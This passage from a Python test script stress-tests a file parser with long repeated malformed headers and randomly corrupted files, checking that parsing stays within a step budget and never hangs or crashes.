                        ('a.xml', b'<!DOCTYPE a <!ENTITY '), ('a.mht', b'Content-Transfer-Encoding: base64\r\n\r\n\n--'), ('a.uue', b'begin 644 a\n'), ('a.doc', b'\x13'), ('a.zip', b'PK\3\4'), ('a.zip', b'PK\1\2'), ('a.zip', b'PK\5\6')):
        first = {'pdf': b'%PDF-1.7\n', 'rtf': b'{\\rtf1', 'ics': b'BEGIN:VCALENDAR\r\n', 'xml': b'<?xml version="1.0"?>', 'svg': b'<svg>', 'mht': b'MIME-Version: 1.0\nContent-Type: multipart/related\n\n', 'zip': b'PK\3\4'}.get(name[2:], b'')
        data = make.doc(text=piece * 3000000) if name == 'a.doc' else first + piece * (3000000 // len(piece))
        # What it may cost is counted, not measured: a second is some 10^9 steps.
        assert look(data, name).steps <= 2000000000, (name, piece)


@case
def damage_never_hangs_or_dies():
    rng = random.Random(1)
    for files in make.corpus().values():
        for name, data in files.items():
            for _ in range(3):
                broken = bytearray(data)
                for _ in range(rng.randrange(1, 8)):
                    broken[rng.randrange(len(broken))] = rng.randrange(256)
                look(bytes(broken[:rng.randrange(1, len(broken) + 1)]), name)


def main():
    print(f'1..{len(CASES)}')
    failed = 0
    for i, f in enumerate(CASES, 1):
        try:
            f()
            print(f'ok {i} - {f.__name__}')
        except Exception as e:  # noqa: BLE001: any failure is one of the case
            failed += 1
            print(f'not ok {i} - {f.__name__}')
            print('# ' + f'{type(e).__name__}: {e}'.replace('\n', '\n# ')[:2000])
    return 1 if failed else 0


sys.exit(main())
